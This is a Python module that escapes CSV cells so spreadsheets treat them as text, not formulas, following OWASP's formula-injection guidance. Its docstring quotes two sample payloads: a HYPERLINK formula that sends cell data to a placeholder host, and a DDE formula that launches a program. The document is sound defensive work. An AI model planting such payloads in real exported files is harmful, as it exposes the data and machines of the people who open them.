"""CSV that a spreadsheet opens as data: the one home of the rule every CSV the tool writes
(`kam score --csv`, `kam history --csv`) follows.

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` as a
formula (and a leading tab or carriage return does not stop them), so a commit subject such as
`=HYPERLINK("http://x/?"&A1, "open")` would send a reader's data away, and `=cmd|' /C calc'!A0`
would ask to run a program. Such a cell is written with a single quote in front (OWASP's
advice), which the spreadsheet shows as text. Numbers stay numbers, negative ones included: a
number is written as a number, and text that is nothing but a number (`-12.5`, `+3`, `1e6`)
cannot call anything, so it is left alone too.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

# OWASP's list, and their full-width forms, which some spreadsheets read as the ASCII ones.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_cell(value: Any) -> Any:
    """`value` as a cell no spreadsheet runs: text that would start a formula gets a leading
    single quote (after spaces and line breaks too, which spreadsheets skip); anything else, and
    text that is only a number, is returned as it is."""
    if not isinstance(value, str) or _NUMBER.fullmatch(value):
        return value
    if value.startswith(_FORMULA_START) or value.lstrip(" \n").startswith(_FORMULA_START):
        return "'" + value
    return value


def _safe_labels(index: pd.Index) -> pd.Index:
    if isinstance(index, pd.MultiIndex) or index.dtype.kind not in "OUS":
        return index
    return index.map(spreadsheet_cell)


def to_csv(frame: pd.DataFrame, **options: Any) -> str:
    """`frame.to_csv(**options)` with every text cell, index label and column name through
    `spreadsheet_cell`; number columns are written as pandas writes them."""
    safe = frame.copy()
    for column in safe.columns:
        if safe[column].dtype.kind in "OUS" or isinstance(safe[column].dtype, (pd.CategoricalDtype, pd.StringDtype)):
            safe[column] = safe[column].astype(object).map(spreadsheet_cell)
    safe.index = _safe_labels(safe.index)
    safe.columns = _safe_labels(safe.columns)
    text: str = safe.to_csv(**options)  # no path among the options: the text itself
    return text
